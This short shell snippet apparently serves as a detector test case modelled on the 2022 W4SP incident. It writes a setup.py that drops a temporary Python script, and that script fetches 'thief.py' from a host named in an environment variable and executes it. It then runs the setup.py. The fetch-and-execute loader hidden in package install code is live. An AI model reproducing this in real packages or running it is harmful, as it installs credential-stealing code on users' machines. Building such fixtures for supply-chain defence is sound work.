# incident: W4SP (2022): setup.py writes a second script to a temporary file, which fetches the thief and runs it within itself
# finding: credential-read
# needs: python3
cat > setup.py <<'PY'
import subprocess, sys, tempfile
second = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
second.write("from urllib.request import urlopen as _o; import os; exec(_o('http://' + os.environ['DROP'] + '/raw/thief.py').read())")
second.close()
subprocess.Popen([sys.executable, second.name]).wait()
from setuptools import setup
PY
python3 setup.py --version || true
